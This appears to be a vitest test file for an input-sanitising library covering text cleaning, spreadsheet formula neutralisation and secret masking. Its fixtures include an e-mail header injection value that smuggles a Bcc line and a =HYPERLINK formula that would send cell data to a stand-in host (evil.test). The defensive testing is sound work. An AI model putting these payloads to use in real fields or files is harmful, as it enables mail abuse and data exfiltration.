import { describe, expect, it } from 'vitest';
import { neutraliseFormula, unwrapSpreadsheetText } from '../../src/core/spreadsheet.js';
import { cleanText, clipQuoted, maskSecrets, maskToken } from '../../src/core/text.js';

describe('cleanText (bad-inputs H1, H8, H9, N6, N8, N9)', () => {
  it.each([
    ['H1', 'Eve\r\nBcc: victim@evil.test', 'Eve Bcc: victim@evil.test'],
    ['H1 LF', 'Eve\nBcc: x', 'Eve Bcc: x'],
    ['H8 LS', 'Anna\u2028Bcc', 'Anna Bcc'],
    ['H8 PS', 'Anna\u2029Bcc', 'Anna Bcc'],
    ['H8 NEL', 'Anna\u0085Bcc', 'Anna Bcc'],
    ['H9', 'Ben\u0000', 'Ben'],
    ['DEL', 'Be\u007fn', 'Be n'],
    ['N8 tabs', '\t Anna \t', 'Anna'],
    ['N8 NBSP', 'Anna\u00a0Müller', 'Anna Müller'],
    ['N8 NNBSP', 'Anna\u202fMüller', 'Anna Müller'],
    ['double space', 'Anna  Maria   Müller', 'Anna Maria Müller'],
    ['N9 combining', 'Zoe\u0308', 'Zo\u00eb'],
    ['N9 precomposed', 'Zo\u00eb', 'Zo\u00eb'],
    ['zero-width', 'An\u200bna', 'Anna'],
    ['BOM', '\ufeffAnna', 'Anna'],
    ['N1', "Zoë D'Arcy-Smith", "Zoë D'Arcy-Smith"],
    ['N1 CJK', '李小龙', '李小龙'],
    ['N1 RTL', 'محمد', 'محمد'],
    ['N2', '<b>Ben</b> & "Co"', '<b>Ben</b> & "Co"'],
    ['empty', '', ''],
  ])('%s: %j', (_id, text, expected) => {
    expect(cleanText(text, 200)).toEqual({ ok: true, value: expected });
  });

  it('refuses a value longer than the limit, after cleaning (N6)', () => {
    expect(cleanText('x'.repeat(200), 200)).toEqual({ ok: true, value: 'x'.repeat(200) });
    expect(cleanText('x'.repeat(201), 200)).toEqual({ ok: false, error: 'is 201 characters long; at most 200 are allowed' });
    expect(cleanText('x'.repeat(10_000), 200)).toEqual({ ok: false, error: 'is 10000 characters long; at most 200 are allowed' });
    // Spaces that cleaning removes do not count.
    expect(cleanText(`  ${'x'.repeat(200)}  `, 200)).toEqual({ ok: true, value: 'x'.repeat(200) });
  });

  it('never lets a control character or line break through, whatever the input', () => {
    for (let code = 0; code < 0x3000; code++) {
      const result = cleanText(`a${String.fromCharCode(code)}b`, 10);
      expect(result.ok).toBe(true);
      if (result.ok) expect(result.value).not.toMatch(/[\u0000-\u001f\u007f-\u009f\u2028\u2029\u200b\ufeff]/);
    }
  });
});

describe('neutraliseFormula and unwrapSpreadsheetText (bad-inputs F1-F6)', () => {
  it.each([
    ['F1', '=HYPERLINK("http://evil.test/?"&A1,"Klick")', `'=HYPERLINK("http://evil.test/?"&A1,"Klick")`],
    ['F2 phone', '+49 170 1234567', "'+49 170 1234567"],
    ['F2 credit', '-5,00', "'-5,00"],
    ['F2 handle', '@anna', "'@anna"],
    ['F3 tab', '\t=1+1', "'\t=1+1"],
    ['F3 CR', '\r=1+1', "'\r=1+1"],
    ['F3 space', ' =1+1', "' =1+1"],
    ['NUL', '\u0000x', "'\u0000x"],
    ['F4', '="00123"', `'="00123"`],
    ['F6 dash', '-', "'-"],
    ['F6 em dash', '—', '—'],
    ['plain', 'Anna', 'Anna'],
    ['inner =', 'a=b', 'a=b'],
    ['empty', '', ''],
  ])('neutraliseFormula %s: %j', (_id, cell, expected) => {
    expect(neutraliseFormula(cell)).toBe(expected);
  });

  it.each([
    // F4: Excel's leading-zero trick is unwrapped on import (documented in the README).
    ['F4', '="00123"', '00123'],
    ['F4 quotes', '="a""b"', 'a"b'],
    // Our own guard comes off again, so a rejects file can be fixed and imported.
    ['guard =', "'=1+1", '=1+1'],
    ['guard -', "'-5,00", '-5,00'],
    ['guard +', "'+49", '+49'],
    // F5: a lone leading ' stays: the source is not known to add it.
    ['F5', "'00123", "'00123"],
    // F1: formulas are text, never evaluated.
    ['F1', '=HYPERLINK("x")', '=HYPERLINK("x")'],
    ['F2', '-5,00', '-5,00'],
    ['F6', '-', '-'],
  ])('unwrapSpreadsheetText %s: %j', (_id, cell, expected) => {
    expect(unwrapSpreadsheetText(cell)).toBe(expected);
  });

  it('reads back what it guarded', () => {
    for (const cell of ['=1+1', '+49 170', '-5,00', '@anna', '\t=x', 'Anna', '00123', '']) {
      expect(unwrapSpreadsheetText(neutraliseFormula(cell))).toBe(cell);
    }
  });
});

describe('maskToken and maskSecrets: secrets never in full', () => {
  it.each([
    [null, '(none)'],
    ['', '(none)'],
    ['abc', '•••'],
    ['tk_9f8e7d6c5b4a3921', 'tk_…21'],
  ])('maskToken(%j) = %j', (token, expected) => {
    expect(maskToken(token)).toBe(expected);
  });

  it.each([
    ['smtp://user:hunter2@mail.example.com:587', 'smtp://user:***@mail.example.com:587'],
    ['--link=https://x.test/?token=abc123&x=1', '--link=https://x.test/?token=***&x=1'],
    ['apikey=SECRET password=pw', 'apikey=*** password=***'],
    ['import orders.csv', 'import orders.csv'],
  ])('maskSecrets(%j)', (text, expected) => {
    expect(maskSecrets(text)).toBe(expected);
  });
});

describe('clipQuoted', () => {
  it('cuts a long quoted value at 80 characters and says its length', () => {
    const cell = 'x'.repeat(1 << 20);
    const message = clipQuoted(`"${cell}" is not an e-mail address`);
    expect(message).toBe(`"${'x'.repeat(80)}…" (${1 << 20} characters) is not an e-mail address`);
  });
  it('leaves short messages and short quoted values as they are', () => {
    expect(clipQuoted('"anna@" is not an e-mail address')).toBe('"anna@" is not an e-mail address');
    const long = `"short" and ${'y'.repeat(100)} unquoted`;
    expect(clipQuoted(long)).toBe(long);
  });
});
